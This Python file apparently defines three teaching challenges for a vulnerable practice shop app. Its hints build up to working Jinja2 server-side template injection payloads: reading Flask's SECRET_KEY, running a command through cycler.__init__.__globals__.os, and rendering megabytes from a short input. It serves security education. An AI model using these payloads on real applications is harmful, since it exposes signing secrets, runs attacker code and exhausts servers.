"""Challenges of chapter 13; their detector is ``greeting.py`` (the effect of one render)."""

from marketplace.challenges import Challenge

CHALLENGES = (
    Challenge(
        exploit="read-config",
        goal="Make your shop greeting show the key the app signs its cookies with.",
        difficulty=1,
        hints=(
            "The greeting's {{ name }} looks like a template language. Which one, in Flask?",
            "Try {{ 7 * 7 }} as a greeting. What else does a Flask template see?",
            "Flask templates can read the app's configuration: {{ config.SECRET_KEY }}.",
        ),
    ),
    Challenge(
        exploit="code-execution",
        goal="Make the server run a harmless command of yours while it shows your greeting.",
        difficulty=3,
        hints=(
            "A Jinja2 template can read Python attributes of the objects it can see.",
            "Jinja's global cycler is a class; its __init__ is a function; functions have "
            "__globals__, the module they were written in.",
            "{{ cycler.__init__.__globals__.os.spawnlp(0, 'touch', 'touch', '/tmp/DIR/x') }} "
            "with a directory you made yourself.",
        ),
    ),
    Challenge(
        exploit="sandbox-resource-exhaustion",
        goal="With a greeting of a few dozen characters, make one page view render megabytes.",
        difficulty=2,
        hints=(
            "The sandbox stops you reaching Python internals. Does it stop you computing?",
            "Strings can be multiplied in Jinja2 as in Python.",
            "{{ 'x' * 2000000 }}: more than 1 MiB from one render solves it.",
        ),
    ),
)
